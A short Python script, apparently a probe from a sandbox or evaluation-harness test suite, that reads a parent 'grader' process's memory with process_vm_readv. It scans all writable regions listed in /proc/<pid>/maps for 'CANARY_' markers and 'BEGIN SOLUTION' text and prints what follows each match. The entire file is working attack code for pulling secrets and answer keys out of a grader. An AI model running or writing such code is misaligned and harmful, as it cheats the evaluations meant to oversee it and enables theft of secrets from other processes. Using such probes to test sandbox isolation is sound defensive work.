# Searches the memory of the grader for secrets with process_vm_readv.
# aim: read
# %% first
import ctypes
import re
import time


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


libc, pid, stop = ctypes.CDLL(None, use_errno=True), int("@PARENT@"), time.time() + 10
libc.process_vm_readv.restype = ctypes.c_ssize_t
found, maps = set(), ["400000-500000 rw"]
try:
    maps = open(f"/proc/{pid}/maps").read().splitlines()
except OSError as error:
    print(error)
for line in maps:
    start, end = (int(n, 16) for n in line.split()[0].split("-"))
    if " rw" in line and end - start <= 2**26 and time.time() < stop:
        buffer = ctypes.create_string_buffer(end - start)
        here, there = Part(ctypes.addressof(buffer), end - start), Part(start, end - start)
        count = libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        content = buffer.raw[: max(0, count)]
        found.update(content[hit.start() :][:80] for hit in re.finditer(rb"CANARY_|BEGIN SOLUTION", content))
print(sorted(found)[:1000])
